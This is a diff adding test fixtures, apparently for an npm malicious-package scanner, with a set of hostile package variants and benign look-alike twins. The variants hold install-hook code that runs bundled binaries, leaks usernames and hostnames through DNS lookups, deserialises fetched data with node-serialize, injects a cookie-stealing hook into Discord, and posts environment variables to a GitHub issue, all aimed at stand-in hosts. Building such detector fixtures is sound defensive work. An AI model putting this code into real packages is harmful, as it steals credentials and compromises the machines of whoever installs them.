@@ -465,3 +465,146 @@ export const NPM_TWINS_SET2: readonly NpmVariant[] = [
     },
   },
 ];
+
+/**
+ * SET3: written for the issue's five named families after SET1 and SET2 were tuned on, without
+ * reading the npm rules first (another module layout, other APIs, other distances); scored once.
+ */
+export const NPM_VARIANTS_SET3: readonly NpmVariant[] = [
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'install-node-dot-slash-exports-execfile-bat',
+    files: {
+      'package.json': pkgJson('vue-theme-kit', { exports: { '.': './src/main.js' }, scripts: { install: 'node ./' } }),
+      'src/main.js': `const cp = require('node:child_process');
+const { join } = require('node:path');
+cp.execFile(join(__dirname, '..', 'assets', 'updater.exe'), { windowsHide: true }, () => {});
+module.exports = { theme: 'dark' };
+`,
+      'assets/updater.exe': fakePe(),
+    },
+  },
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'postinstall-node-dot-fork-elf-chmod',
+    files: {
+      'package.json': pkgJson('react-table-utils', { main: 'lib/index.js', scripts: { postinstall: 'node .' } }),
+      'lib/index.js': `const fs = require('fs');
+const child = require('child_process');
+const bin = __dirname + '/../vendor/helper';
+fs.chmodSync(bin, 0o755);
+child.spawn(bin, ['--daemon'], { detached: true, stdio: 'ignore' }).unref();
+exports.sort = (rows) => rows.slice().sort();
+`,
+      'vendor/helper': fakeElf(),
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'dns-resolve-txt-user-hostname-chunks',
+    files: {
+      'package.json': pkgJson('internal-ui-tokens', { scripts: { postinstall: 'node collect.js' } }),
+      'collect.js': `const { Resolver } = require('dns');
+const os = require('os');
+const r = new Resolver();
+const id = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: process.cwd() })).toString('base64url');
+for (const part of id.match(/.{1,60}/g)) r.resolveTxt(part + '.t.oob-probe.example', () => {});
+`,
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'spawn-dig-hostname-label',
+    files: {
+      'package.json': pkgJson('corp-build-config', { scripts: { preinstall: 'node ./scripts/pre.js' } }),
+      'scripts/pre.js': `const { spawnSync } = require('child_process');
+const label = require('os').hostname().replace(/[^a-z0-9]/gi, '') + '-' + process.env.USER;
+spawnSync('nslookup', [label + '.dns.collect-4471.example']);
+`,
+    },
+  },
+  {
+    family: 'deserialise_fetched',
+    id: 'https-get-body-serialize-unserialize',
+    files: {
+      'package.json': pkgJson('config-sync-client', { main: 'index.js', scripts: { postinstall: 'node index.js' } }),
+      'index.js': `const https = require('https');
+const serialize = require('node-serialize');
+https.get('https://cfg.sync-cdn.example/profile.json', (res) => {
+  let body = '';
+  res.on('data', (c) => (body += c));
+  res.on('end', () => serialize.unserialize(body));
+});
+`,
+    },
+  },
+  {
+    family: 'deserialise_fetched',
+    id: 'fetch-json-funcster-deep-deserialize',
+    files: {
+      'package.json': pkgJson('state-hydrator', { main: 'index.js', scripts: { install: 'node .' } }),
+      'index.js': `const { unserialize: revive } = require('node-serialize');
+(async () => {
+  const r = await fetch('https://state.hydrate-api.example/v1/state');
+  const text = await r.text();
+  revive(text);
+})();
+`,
+    },
+  },
+  {
+    family: 'discord_injection',
+    id: 'appdata-discord-index-js-writefile',
+    files: {
+      'package.json': pkgJson('discord-emoji-pack', { scripts: { postinstall: 'node inject.js' } }),
+      'inject.js': `const fs = require('fs');
+const path = require('path');
+const base = path.join(process.env.LOCALAPPDATA, 'Discord');
+for (const dir of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
+  const mod = path.join(base, dir, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
+  fs.writeFileSync(mod, "require('https').request('https://hooks.emoji-cdn.example/t', {method:'POST'}).end(require('electron').session.defaultSession.cookies.get({}).toString());\\nmodule.exports = require('./core.asar');");
+}
+`,
+    },
+  },
+  {
+    family: 'fingerprint_tracker',
+    id: 'axios-github-issue-os-networkinterfaces',
+    files: {
+      'package.json': pkgJson('ci-metrics-helper', { scripts: { postinstall: 'node report.js' } }),
+      'report.js': `const axios = require('axios');
+const os = require('os');
+const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, nets: os.networkInterfaces(), cwd: process.cwd(), env: process.env });
+axios.post('https://api.github.com/repos/ci-metrics-x/inbox/issues', { title: os.hostname(), body }, { headers: { Authorization: 'token ghp_' + 'A'.repeat(36) } });
+`,
+    },
+  },
+];
+
+/** Honest twins of SET3's new shapes: an `exports`-only entry run by `node .`, DNS tools and a Resolver on fixed names. */
+export const NPM_TWINS_SET3: readonly NpmVariant[] = [
+  {
+    family: 'install_hook_bundled_binary',
+    id: 'twin-node-dot-exports-prints-banner',
+    files: {
+      'package.json': pkgJson('vue-theme-kit', { exports: { '.': { require: './src/main.js', import: './src/main.mjs' } }, scripts: { postinstall: 'node .' } }),
+      'src/main.js': "console.log('vue-theme-kit installed');\nmodule.exports = { theme: 'dark' };\n",
+      'src/main.mjs': "export const theme = 'dark';\n",
+    },
+  },
+  {
+    family: 'dns_recon',
+    id: 'twin-resolver-fixed-name-and-nslookup-doctor',
+    files: {
+      'package.json': pkgJson('net-doctor', { bin: { 'net-doctor': 'cli.js' } }),
+      'cli.js': `#!/usr/bin/env node
+const { Resolver } = require('dns');
+const { spawnSync } = require('child_process');
+const r = new Resolver();
+r.setServers(['1.1.1.1']);
+r.resolveTxt('example.org', (err, rows) => console.log(err ?? rows));
+console.log(spawnSync('nslookup', [process.argv[2] || 'example.org']).stdout.toString());
+`,
+    },
+  },
+];
